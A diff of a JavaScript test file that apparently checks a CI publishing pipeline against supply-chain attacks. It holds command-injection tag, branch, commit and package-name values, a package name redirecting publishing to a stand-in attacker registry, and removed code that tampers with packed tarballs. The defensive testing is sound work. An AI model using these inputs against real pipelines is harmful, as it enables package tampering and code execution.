@@ -2,22 +2,18 @@
 import assert from 'node:assert/strict'
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { hostileDependency, single } from '../fixtures/index.mjs'
+import { HOSTILE_MESSAGE, HOSTILE_REF, lootOf, REWRITER, stealing } from '../fixtures/hostile.mjs'
+import { single } from '../fixtures/index.mjs'
 import { git } from '../project.mjs'
 import { scenario } from '../scenario.mjs'
 import { test } from '../suite.mjs'
 
-const STEAL = readFileSync(new URL('../fixtures/steal.mjs', import.meta.url), 'utf8')
 const every = (name, body) => ['github', 'gitlab', 'circleci'].forEach((provider) => test(`attack: ${provider}, ${name}`, () => body(provider)))
-const loot = (output) => output.split('\n').filter((text) => text.includes('LOOT ')).map((text) => text.replace(/.*LOOT /, '').trim())
 
 every("a dependency's postinstall looks for an identity", (provider) => {
-  const fixture = (options) => hostileDependency({
-    ...options, script: STEAL.replace('REGISTRY', JSON.stringify(`https://${options.host}/`)).replace('VICTIM', '"acme-demo"'),
-  })
-  return scenario(provider, fixture, {}, async (s) => {
+  return scenario(provider, stealing, {}, async (s) => {
     const outcome = await s.run()
-    const found = [...s.files('loot').flatMap((path) => loot(readFileSync(path, 'utf8'))), ...loot(outcome.output)]
+    const found = lootOf(s, outcome)
     assert.ok(found.includes('done'), 'the script ran')
     assert.deepEqual(found.filter((text) => /^(works|credential|exchange: 2)/.test(text)), [], 'nothing that works was found')
     assert.deepEqual(found.filter((text) => /replaced|planted/.test(text)), [], 'nothing planted reaches the publish job')
@@ -29,25 +25,6 @@ every("a dependency's postinstall looks for an identity", (provider) => {
   })
 })
 
-// Runs beside the pack step and appends to the tarball once the manifest is written.
-const REWRITER = `import { spawn } from 'node:child_process'
-const code = \`
-  const fs = require('fs'), path = require('path')
-  const until = Date.now() + 20000
-  const look = () => {
-    for (const folder of [process.env.RUNNER_TEMP && path.join(process.env.RUNNER_TEMP, 'npm-tarballs'), '.npm-tarballs', '/tmp/npm-tarballs']) {
-      if (folder && fs.existsSync(path.join(folder, 'manifest.json'))) {
-        for (const file of fs.readdirSync(folder)) if (file.endsWith('.tgz')) fs.appendFileSync(path.join(folder, file), 'evil')
-        return
-      }
-    }
-    if (Date.now() < until) setTimeout(look, 1)
-  }
-  look()
-\`
-spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref()
-console.log('TESTS RAN')
-`
 every('a test script rewrites the tarball after packing', (provider) => scenario(provider, single, { files: { 'test.mjs': REWRITER } }, async (s) => {
   const outcome = await s.run()
   assert.notEqual(outcome.status, 0)
@@ -73,10 +50,8 @@ test('attack: github, a test script rewrites the tarball and the manifest after 
     assert.deepEqual([s.published(), s.exchanges()], [[], []])
   }))
 
-const HOSTILE_REF = 'v1.1.0$(touch${IFS}pwned);`touch${IFS}pwned`"\'|touch${IFS}pwned#'
 every('a hostile tag name and commit message', (provider) => {
-  const message = 'Release $(touch pwned) `touch pwned`\n\n::add-path::/tmp\n::set-output name=manifest-sha256::0\n"; touch pwned; "'
-  return scenario(provider, single, { message }, async (s) => {
+  return scenario(provider, single, { message: HOSTILE_MESSAGE }, async (s) => {
     const hostile = await s.run({ ref: `refs/tags/${HOSTILE_REF}` })
     assert.equal(hostile.triggered, true)
     const outcome = await s.run()
@@ -85,6 +60,32 @@ every('a hostile tag name and commit message', (provider) => {
     assert.deepEqual(s.files('pwned'), [])
   })
 })
+
+every('a hostile branch name, with the filters deleted', (provider) => scenario(provider, single, {
+  edit: (text) => ({
+    github: (it) => it.replace(/^ {2}push:\n {4}tags:\n {6}- .*$/m, '  push:'), gitlab: (it) => it.replace(/^ +rules:\n +- if: .*\n/gm, ''),
+    circleci: (it) => it.replace(/^ *filters: .*\n/gm, ''),
+  }[provider](text)),
+}, async (s) => {
+  const outcome = await s.run({ ref: `refs/heads/${HOSTILE_REF}` })
+  assert.equal(outcome.triggered, true)
+  assert.notEqual(outcome.status, 0)
+  assert.deepEqual([s.published(), s.exchanges(), s.files('pwned')], [[], [], []])
+}))
+
+// The tests rewrite package.json, so that the pack step is the first to meet the name.
+const NAME = 'acme-demo$(touch pwned)`touch pwned`\n::add-path::/tmp\n--registry=https://npm.mallory.example'
+const RENAMER = `import { readFileSync, writeFileSync } from 'node:fs'
+const manifest = JSON.parse(readFileSync('package.json', 'utf8'))
+writeFileSync('package.json', JSON.stringify({ ...manifest, name: ${JSON.stringify(NAME)} }))
+`
+every('a hostile package name', (provider) => scenario(provider, single, { files: { 'test.mjs': RENAMER } }, async (s) => {
+  const outcome = await s.run()
+  assert.notEqual(outcome.status, 0)
+  assert.deepEqual([s.published(), s.exchanges(), s.files('pwned')], [[], [], []])
+  assert.match(outcome.output, /Fix: /)
+  assert.doesNotMatch(outcome.output, /^(\[.*\] *)?(\| *)?::add-path::/m, 'no command of the runner is made of it')
+}))
 
 every('a poisoned cache', (provider) => {
   const fixture = { more: { packageManager: 'npm@11.17.0' } }
